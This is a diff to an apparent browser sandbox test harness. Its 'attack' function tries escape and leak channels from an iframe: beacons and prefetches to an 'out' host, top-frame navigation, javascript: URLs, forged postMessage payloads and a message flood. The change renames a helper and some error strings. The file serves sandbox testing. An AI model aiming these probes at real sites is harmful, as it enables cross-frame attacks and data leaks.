@@ -40,7 +40,7 @@ export async function attack({ app, media, out }: Targets): Promise<Record<strin
     document.body.append(element)
     element.click()
     element.remove()
-    throw new Error('told by what follows')
+    throw new Error('judged by what follows')
   }
   const toLink = (href: string, target: string, ping = '') =>
     press(Object.assign(document.createElement('a'), { href, target, ping, textContent: 'x' }))
@@ -48,11 +48,11 @@ export async function attack({ app, media, out }: Targets): Promise<Record<strin
     const form = Object.assign(document.createElement('form'), { action, target, method })
     document.body.append(form)
     form.submit()
-    throw new Error('told by what follows')
+    throw new Error('judged by what follows')
   }
   const style = (css: string) => {
     document.head.append(Object.assign(document.createElement('style'), { textContent: css }))
-    throw new Error('told by what follows')
+    throw new Error('judged by what follows')
   }
   const open = (url: string, name = '_blank') => {
     if (window.open(url, name) === null) throw new Error('refused')
@@ -65,9 +65,9 @@ export async function attack({ app, media, out }: Targets): Promise<Record<strin
       made.onerror = () => reject(new Error('refused'))
       setTimeout(() => reject(new Error('late')), patience)
     })
-  const tell = (message: unknown) => {
+  const post = (message: unknown) => {
     for (const to of [parent, top]) to?.postMessage(message, '*')
-    throw new Error('told by what follows')
+    throw new Error('judged by what follows')
   }
   const asks = async (act: () => unknown) => {
     const answer = await Promise.race([
@@ -106,7 +106,7 @@ export async function attack({ app, media, out }: Targets): Promise<Record<strin
       }),
     beacon: () => {
       navigator.sendBeacon(`${out}/beacon`, 'x')
-      throw new Error('told by the stranger')
+      throw new Error('judged by the stranger')
     },
     socketApp: () =>
       new Promise((resolve, reject) => {
@@ -156,7 +156,7 @@ export async function attack({ app, media, out }: Targets): Promise<Record<strin
         prefetch: [{ urls: [`${out}/speculated`], eagerness: 'immediate' }],
       })
       document.head.append(rules)
-      throw new Error('told by the stranger')
+      throw new Error('judged by the stranger')
     },
     base: () => {
       document.head.append(Object.assign(document.createElement('base'), { href: `${out}/base/` }))
@@ -170,11 +170,11 @@ export async function attack({ app, media, out }: Targets): Promise<Record<strin
     topByName: () => open(`${out}/top`, '_top'),
     topNavigation: () => {
       if (top) top.location.href = `${app}/clear.html`
-      throw new Error('told by the address')
+      throw new Error('judged by the address')
     },
     topScript: () => {
       if (top) top.location.href = 'javascript:globalThis.reached=1'
-      throw new Error('told by the app')
+      throw new Error('judged by the app')
     },
     linkTop: () => toLink(`${out}/link-top`, '_top'),
     linkParent: () => toLink(`${app}/clear.html`, '_parent'),
@@ -220,17 +220,17 @@ export async function attack({ app, media, out }: Targets): Promise<Record<strin
       ),
     devices: () =>
       asks(() => (navigator as unknown as { usb: { getDevices(): unknown } }).usb.getDevices()),
-    forgeSaves: () => tell({ type: 'saves', saves: { a: { b: 1 } } }),
-    forgeStart: () => tell({ type: 'start', saves: {}, entry: 'javascript:alert(1)' }),
+    forgeSaves: () => post({ type: 'saves', saves: { a: { b: 1 } } }),
+    forgeStart: () => post({ type: 'start', saves: {}, entry: 'javascript:alert(1)' }),
     forgePort: () => {
       const { port1 } = new MessageChannel()
       top?.postMessage({ type: 'ready' }, '*', [port1])
-      throw new Error('told by what follows')
+      throw new Error('judged by what follows')
     },
     flood: () => {
       for (let index = 0; index < 3000; index++)
         parent.postMessage({ type: `x${index}`, saves: index }, '*')
-      throw new Error('told by what follows')
+      throw new Error('judged by what follows')
     },
   }
   await Promise.all(
